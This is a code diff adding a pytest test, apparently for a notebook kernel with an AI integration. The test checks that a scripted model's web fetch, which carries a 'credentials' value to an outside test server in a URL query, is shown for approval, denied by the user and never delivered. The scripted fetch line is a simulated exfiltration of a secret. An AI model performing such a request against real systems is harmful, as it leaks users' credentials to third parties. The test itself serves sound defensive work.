@@ -296,3 +296,22 @@ def test_a_project_files_domain_list_does_not_choose_where_data_goes(
     assert result.status == "ok" and model_server.errors == []
     assert outside.seen == []
     assert _statuses(result) == [("web_fetch", "denied")]
+
+
+def test_a_notebook_value_sent_with_the_prompt_is_private_text_too(
+    start_kernel, model_server, outside: LocalServer
+):
+    model_server.extend(
+        [
+            _fetch(f"{outside.url}/c?v={SECRET}"),
+            {"expect": {"tool_result_contains": "denied"}, "text": "Not sent."},
+        ]
+    )
+    kernel = start_kernel(_env(outside))
+    assert kernel.execute(f'%%python\ncredentials = "{SECRET}"').status == "ok"
+    result = kernel.execute("Check @credentials", on_message=WidgetClicker(["Deny"]))
+    assert result.status == "ok" and model_server.errors == []
+    assert outside.seen == []
+    [widget] = _widgets(result)
+    assert f"v = ⟦{SECRET}⟧" in widget["text/plain"]
+    assert "from: @references" in widget["text/plain"]
